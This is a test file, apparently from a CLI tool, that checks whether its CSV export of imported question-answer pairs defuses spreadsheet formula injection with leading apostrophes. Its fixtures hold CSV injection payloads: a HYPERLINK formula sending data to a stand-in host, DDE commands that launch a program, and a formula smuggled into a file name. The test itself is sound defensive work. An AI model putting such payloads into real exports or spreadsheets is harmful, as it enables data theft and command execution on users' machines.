// Imported QAs are text someone else wrote; a spreadsheet opening the CSV export must not run any
// of it. Cells that would start a formula (OWASP's = + - @ tab CR) are written with a leading
// apostrophe, the text formats keep the text exactly, and a plain number stays a number.
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { duckdb, sqlPath } from "../../support/duckdbReader.ts";
import { runCliProcess } from "../../support/runCliProcess.ts";
import { tempDir } from "../../support/tempDir.ts";

const SOURCE = "The films were annealed at 150 °C for 10 min; the gap fell by 5 meV and rose by 3 °C later.";
/** Question and answer cells as an attacker (or an odd dataset) would write them. */
const ROWS: [string, string][] = [
  ['=HYPERLINK("http://evil.example/?d="&A2,"click")', "+cmd|' /C calc'!A0"],
  ["@SUM(1+1)", "-2+3+cmd|' /C calc'!A0"],
  ["Why is this one a sum?", "=1+1"],
  ["How far did the gap fall?", "-5"],
  ["What was the rise?", "+3 °C"],
  ["Plain question; =1+1 after a semicolon?", "Plain answer."],
];
const FORMULA_START = /^[=+\-@\t\r]/;
/** A cell a spreadsheet reads as a number, never a formula. */
const NUMBER = /^[+-]?\d+(\.\d+)?$/;

const csvCell = (text: string) => `"${text.replace(/"/g, '""')}"`;

describe("a CSV export of imported QAs holding formulas", () => {
  it("starts no cell with a formula character, says each with a leading apostrophe, and keeps the JSONL text as it was", async () => {
    const dir = tempDir();
    const data = path.join(dir, "data");
    // The file's name travels into every row's origin cell.
    const file = path.join(dir, "=HYPERLINK(1)+x.csv");
    fs.writeFileSync(file, `question,answer,passage\r\n${ROWS.map(([q, a]) => [q, a, SOURCE].map(csvCell).join(",")).join("\r\n")}\r\n`);
    const imported = runCliProcess(["--data-dir", data, "import-qas", file, "--source-field", "passage"]);
    expect(imported.code, imported.stderr).toBe(0);

    const csvOut = path.join(dir, "qa.csv");
    const exported = runCliProcess(["--data-dir", data, "export", "--preset", "all", "--keep-duplicates", "--format", "csv", "--out", csvOut]);
    expect(exported.code, exported.stderr).toBe(0);
    const db = await duckdb();
    try {
      const rows = await db.rows(`SELECT * FROM read_csv(${sqlPath(csvOut)}, header = true, all_varchar = true, quote = '"', escape = '"', delim = ',', strict_mode = true)`);
      expect(rows).toHaveLength(ROWS.length);
      const cells = rows.flatMap((row) => Object.values(row).filter((v): v is string => typeof v === "string"));
      expect(cells.filter((cell) => FORMULA_START.test(cell) && !NUMBER.test(cell))).toEqual([]);
      const byQuestion = new Map(rows.map((row) => [String(row.question), row]));
      expect(byQuestion.get(`'${ROWS[0]![0]}`)).toMatchObject({ answer: `'${ROWS[0]![1]}` });
      expect(byQuestion.get(`'${ROWS[1]![0]}`)).toMatchObject({ answer: `'${ROWS[1]![1]}` });
      expect(byQuestion.get(ROWS[2]![0])).toMatchObject({ answer: `'${ROWS[2]![1]}` });
      // A number alone is no formula and stays one; a number with text after it is not a number.
      expect(byQuestion.get(ROWS[3]![0])).toMatchObject({ answer: "-5" });
      expect(byQuestion.get(ROWS[4]![0])).toMatchObject({ answer: "'+3 °C" });
      for (const row of rows) expect(row.origin).toMatch(/^'=HYPERLINK\(1\)\+x\.csv, row \d+$/);
    } finally {
      db.close();
    }
    // Excel reads ";" as the separator in many locales: a field holding one is quoted, so it stays one cell there too.
    const text = fs.readFileSync(csvOut, "utf8");
    expect(text).toContain(`"${ROWS[5]![0]}"`);

    const jsonlOut = path.join(dir, "qa.jsonl");
    expect(runCliProcess(["--data-dir", data, "export", "--preset", "all", "--keep-duplicates", "--format", "jsonl", "--out", jsonlOut]).code).toBe(0);
    const records = fs.readFileSync(jsonlOut, "utf8").trim().split("\n").map((line) => JSON.parse(line) as { question: string; answer: string; provenance: { origin: { file: string } } });
    expect(records.map((r) => [r.question, r.answer]).sort()).toEqual([...ROWS].sort());
    expect(records.every((r) => r.provenance.origin.file === "=HYPERLINK(1)+x.csv")).toBe(true);
  });
});
